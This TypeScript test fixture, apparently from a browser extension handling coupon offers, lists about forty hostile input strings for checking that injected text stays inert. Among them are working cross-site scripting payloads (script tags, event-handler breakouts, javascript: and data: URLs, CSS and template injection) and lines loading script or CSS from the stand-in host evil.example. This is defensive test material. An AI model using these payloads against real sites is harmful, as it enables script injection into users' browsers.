// Hostile strings a page (or a pasted offer e-mail) could put where the extension reads text: coupon
// names, codes, error messages, terms. Each one that executes sets window.__pwned (or opens a dialog),
// so a test can tell "shown as text" from "ran". Used by the Node and Chromium hostile-page suites and
// as replacement text by the reader fuzzer.

/** Set by every payload that manages to run script; the hostile suites assert it stays undefined. */
export const PWNED = '__pwned';

const run = `window.${PWNED}=1`;
const big = (unit: string) => unit.repeat(Math.ceil(100_000 / unit.length)).slice(0, 100_000);

export interface Payload {
  name: string;
  text: string;
}

export const PAYLOADS: readonly Payload[] = [
  { name: 'script tag', text: `<script>${run}</script>` },
  { name: 'script src', text: `<script src="https://evil.example/x.js"></script>` },
  { name: 'img onerror', text: `<img src=x onerror="${run}">` },
  { name: 'svg onload', text: `<svg onload="${run}"><circle r="9"/></svg>` },
  { name: 'svg script', text: `<svg><script>${run}</script></svg>` },
  { name: 'event handler attribute', text: `" onmouseover="${run}" autofocus onfocus="${run}" x="` },
  { name: 'single-quote breakout', text: `' onclick='${run}' '` },
  { name: 'javascript: link', text: `<a href="javascript:${run}">Redeem</a>` },
  { name: 'bare javascript: URL', text: `javascript:${run}//` },
  { name: 'data: URL', text: `data:text/html,<script>${run}</script>` },
  { name: 'iframe srcdoc', text: `<iframe srcdoc="<script>parent.${run}</script>"></iframe>` },
  { name: 'details ontoggle', text: `<details open ontoggle="${run}">` },
  { name: 'style close', text: `</style><img src=x onerror="${run}"><style>` },
  { name: 'css expression', text: `x{width:expression(${run})}` },
  { name: 'css url javascript', text: `x{background:url("javascript:${run}")}` },
  { name: 'css import', text: `@import url(https://evil.example/x.css);` },
  { name: 'closing tags', text: `</div></td></tr></table></body></html><b>${run}</b>` },
  { name: 'bidi override', text: '\u202Egnp.exe\u202C TTADS-5O0FF' },
  { name: 'bidi isolates', text: '\u2066\u2067\u2068CODE\u2069\u200F\u200E' },
  { name: 'zero-width characters', text: 'TT\u200BADS\u200C-\u200D5O0\uFEFFFF' },
  { name: '100 KB string', text: big('A') },
  { name: '100 KB markup', text: big(`<b>${run}</b>`) },
  { name: 'template literal', text: '${' + run + '}`${alert(1)}`' },
  { name: 'mustache', text: `{{constructor.constructor('${run}')()}}` },
  { name: 'i18n placeholder', text: '$AMOUNT$ $1 %s %d {0} $$' },
  { name: 'HTML entities', text: `&lt;script&gt;${run}&lt;/script&gt; &amp; &#x3C;img&#62; &nbsp;` },
  { name: 'null bytes', text: 'TTADS\u0000-5O0FF\u0000<script>\u0000' },
  { name: 'control characters', text: '\u0001\u0008\u001b[31m\r\n\t\u007f\u0085\u2028\u2029' },
  { name: 'lone surrogates', text: '\uD800\uDFFF\uDC00x\uD83D' },
  { name: 'RTL name', text: 'كوبون إعلانات ترحيبي ‏٥٠ دولار' },
  { name: 'Hebrew with numbers', text: 'קופון 50$ עד 31.12.2026' },
  { name: 'emoji ZWJ sequence', text: '👩‍👩‍👧‍👦🏳️‍🌈🧑🏽‍💻 credit 💸' },
  { name: 'combining marks', text: 'Z̷̡̛̛͎a̸̧͔l̵̢̛g̶̨o̵̡ ̴c̷o̵d̶e̸' + '\u0301'.repeat(500) },
  { name: 'prototype keys', text: '__proto__' },
  { name: 'constructor key', text: 'constructor' },
  { name: 'JSON breakout', text: `"}]});${run};//` },
  { name: 'object text', text: '[object Object] undefined null NaN' },
  { name: 'huge number', text: '1e309 -0 99999999999999999999999 USD 1.7976931348623157e308' },
  { name: 'amount lookalike', text: 'USD 50.00 / USD 100.00 ＄５０' },
  { name: 'markdown link', text: `[Redeem](javascript:${run})` },
];
